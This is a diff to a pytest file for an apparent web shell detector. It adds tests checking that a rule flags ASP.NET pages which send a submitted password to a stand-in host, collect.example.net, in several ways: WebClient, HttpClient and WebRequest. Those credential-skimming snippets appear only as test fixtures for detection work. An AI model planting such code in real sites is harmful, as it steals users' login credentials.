@@ -5,6 +5,7 @@ from __future__ import annotations
 import pytest
 
 from tests.detectors.fixture_cases import changed, finding, findings
+from webshellhunt import examine
 from webshellhunt.model.rules import Confidence, Severity
 
 STEM = "sign_in_values_sent"
@@ -54,3 +55,31 @@ def test_other_values_and_whole_addresses_are_none(old: str, new: str) -> None:
 def test_the_content_of_a_request() -> None:
     sent = ('DownloadString("http://collect.example.net/?p=" + ', 'UploadString("http://collect.example.net/", "p=" + ')
     assert "is the content of an HTTP request" in finding(changed(FIXED, sent), "WSH1047").message
+
+
+TO = '"https://collect.example.net/k"'
+KEYS = "var d = new System.Collections.Specialized.NameValueCollection(); "
+ASKED = f"var r = System.Net.WebRequest.Create({TO}); "
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        KEYS + f'd["a"] = TAKEN; new System.Net.WebClient().UploadValues({TO}, d);',
+        KEYS + f'd.Add("a", TAKEN); new System.Net.WebClient().UploadValues({TO}, "POST", d);',
+        f'new System.Net.WebClient().UploadString({TO}, "POST", "p=" + TAKEN);',
+        'var k = new System.Collections.Generic.Dictionary<string, string> { { "p", TAKEN } }; '
+        f"new System.Net.Http.HttpClient().PostAsync({TO}, new System.Net.Http.FormUrlEncodedContent(k));",
+        ASKED
+        + 'using (var w = new System.IO.StreamWriter(r.GetRequestStream())) w.Write("p=" + TAKEN); r.GetResponse();',
+        ASKED
+        + "byte[] b = Encoding.UTF8.GetBytes(TAKEN); r.GetRequestStream().Write(b, 0, b.Length); r.GetResponse();",
+    ],
+)
+def test_all_ways_to_send_a_form(code: str) -> None:
+    def sends(name: str) -> bool:
+        text = f'<%@ Page Language="C#" %><% {code.replace("TAKEN", f"Request.Form[{name}]", 1)} %>'
+        return "WSH1047" in {each.rule.id for each in examine(text.encode(), path="site/p.aspx").findings}
+
+    assert sends('"password"')
+    assert not sends('"captcha"')
